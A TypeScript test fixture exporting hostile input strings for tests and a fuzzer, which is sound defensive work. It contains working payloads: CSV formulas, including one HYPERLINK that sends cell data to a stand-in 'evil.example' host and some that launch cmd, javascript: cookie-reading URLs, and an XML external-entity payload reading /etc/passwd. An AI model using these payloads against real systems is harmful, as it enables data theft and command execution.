/**
 * Strings an attacker (or an unlucky copy and paste) puts in a name, a title or
 * a quote: each breaks something that handles text carelessly. Shared by the
 * hostile-input tests and the GraphQL fuzzer; the named ones are for tests
 * that need to say which they used.
 */

/** Spreadsheet formulas (OWASP CSV injection): a cell starting with =, +, -, @, tab or carriage return runs. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1, "Click me")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

/** Characters XML 1.0 cannot carry and spreadsheets mangle: NUL, other C0 controls, DEL. */
export const CONTROL_CHARACTERS = ['NUL\u0000in the middle', 'bell\u0007 escape\u001b[31m red', 'delete\u007f', 'form\u000cfeed and vertical\u000btab'];

/** Half of a surrogate pair: not Unicode text at all. */
export const LONE_SURROGATES = ['high \ud800 alone', 'low \udc00 alone', 'reversed \udc00\ud800 pair'];

/** Addresses that run code or read files when clicked. */
export const BAD_URLS = ['javascript:alert(document.cookie)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', 'vbscript:msgbox(1)'];

/** Right-to-left override: "Alan Wood" shown with its characters reversed, a file name that lies about its type. */
export const BIDI = ['\u202eAlan Wood', 'report\u202efdp.exe', '\u2066isolate\u2069 and \u200fmark'];

/** Regular-expression syntax: a name built into a pattern unescaped changes what the pattern means (or hangs it). */
export const REGEX_METACHARACTERS = ['.*+?^${}()|[]\\', '(a+)+$', 'Wood|Wilshaw', '[^]', '(?<x>\\k<x>)', '\\p{L}'];

/** Text that ends an XML attribute, element or CDATA section early. */
export const XML_BREAKERS = ['</node></nodes><injected/>', '" onload="alert(1)', "' id='x", ']]><![CDATA[', '&amp; &unknown; &#0; &#x1;', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'];

/** An actor name 40,000 characters long: 8,000 words, so every word-based matcher sees it as a name. */
export const LONG_NAME = `${Array.from({ length: 8_000 }, (_, i) => `Wo${i % 10}d`).join(' ')}s`;

export const HOSTILE_STRINGS: string[] = [
  ...FORMULAS,
  ...CONTROL_CHARACTERS,
  ...LONE_SURROGATES,
  ...BAD_URLS,
  ...BIDI,
  ...REGEX_METACHARACTERS,
  ...XML_BREAKERS,
  LONG_NAME,
];
